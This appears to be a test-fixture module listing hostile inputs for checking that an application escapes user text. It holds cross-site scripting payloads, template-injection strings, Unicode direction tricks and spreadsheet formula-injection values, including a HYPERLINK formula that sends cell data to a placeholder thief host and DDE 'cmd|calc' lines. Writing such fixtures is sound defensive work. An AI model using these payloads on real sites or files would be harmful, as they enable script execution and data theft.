/** What would run, or break the page, where it is taken for markup. */
export const HOSTILE_MARKUP = [
  '<img src=x onerror=window.planted=1>',
  '"><script>window.planted=1</script>',
  "'><svg onload=window.planted=1>",
  '</script><script>window.planted=1</script>',
  'javascript:window.planted=1',
  '</textarea><a href="javascript:planted=1">go</a>',
  '{{constructor.constructor("planted=1")()}}',
  '\u202Eevil\u202C \u0301\u0301\u0301 \u{1F469}\u200D\u{1F373} ]]>',
]

/** A word that no line can hold, and that gives no place to break it. */
export const ENDLESS_WORDS = ['W'.repeat(200)]

/** What a spreadsheet would run, also behind what it skips. */
export const HOSTILE_FORMULAS = [
  '=HYPERLINK("https://thief.example/?"&A1,"Priya")',
  '+1+cmd|calc!A1',
  '-2+3+cmd|calc!A1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Priya\n=1+1',
  '"=1+1"',
  ' =1+1',
  '＝1+1',
]
